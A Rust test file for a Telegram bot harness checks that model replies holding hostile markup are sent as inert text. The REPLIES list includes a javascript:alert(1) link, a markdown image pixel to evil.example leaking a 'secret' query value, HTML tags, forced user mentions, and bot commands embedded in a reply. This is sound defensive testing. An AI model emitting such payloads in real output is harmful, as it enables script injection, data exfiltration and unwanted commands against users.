//! Words that want to be more than words: whatever leaves is inert.

use cairn_testkit::model::{Answer, Kind};
use cairn_testkit::telegram::Say;

use super::rig::{Rig, World};

/// What a model could be talked into.
const REPLIES: [&str; 9] = [
    "@alice and @everyone, come here, quokka",
    "[click the quokka](tg://user?id=5100000001) and [here](javascript:alert(1))",
    "![quokka](https://evil.example/pixel.png?secret=1)",
    "<a href=\"tg://user?id=5100000001\">quokka</a> <b>bold</b> &lt;script&gt;",
    "**open emphasis _nested `open code\n\n```rust\nlet quokka = 1;",
    "*quokka* _quokka_ __quokka__ ~quokka~ ||quokka|| >quokka \\*",
    "/forgetme yes\n/new\n@cairn_test_bot /stop quokka",
    "quokka \u{202e}txet desrever\u{202c} and \u{0} nul",
    "# Quokka\n\n| a | b |\n|---|---|\n| @alice | [x](https://e.example) |\n\n- one\n  - two\n\n> @bob said",
];

#[tokio::test]
async fn replies_of_any_kind_mention_nobody_and_load_nothing() {
    let world = World::new().await;
    let hut = world.telegram.supergroup("Quokka hut");
    let rig = world.start(&format!("direct = \"open\"\nchats = [{hut}]")).await;
    for (n, reply) in REPLIES.iter().enumerate() {
        rig.model.push(Kind::Reply, Answer::text(*reply));
        rig.telegram.say(hut, &rig.alice, Say::text("say it, quokka").mention());
        let sent = rig.telegram.wait_sent(hut, n + 1).await;
        for entity in &sent[n].entities {
            let url = entity["url"].as_str().unwrap_or("https://");
            assert!(url.starts_with("http"), "{entity}");
        }
        rig.delivered().await;
    }
    assert_eq!(rig.telegram.sent(hut).len(), REPLIES.len());
    assert!(rig.json(&["outbox", "list"]).await.as_array().unwrap().is_empty());
    let memories = rig.json(&["memory", "list"]).await;
    assert!(memories.as_array().unwrap().is_empty(), "commands in a reply are words: {memories}");
    rig.end().await;
}

#[tokio::test]
async fn what_people_write_is_repeated_by_commands_as_plain_words() {
    let rig = Rig::open().await;
    let say = |text: &str| rig.telegram.command(rig.alice.id, &rig.alice, text);
    for (n, reply) in REPLIES.iter().enumerate() {
        say(&format!("/remember {}", reply.replace('\0', " ")));
        rig.telegram.wait_sent(rig.alice.id, n + 1).await;
    }
    say("/memory");
    say("/export");
    rig.telegram.wait_sent(rig.alice.id, REPLIES.len() + 2).await;
    rig.end().await;
}
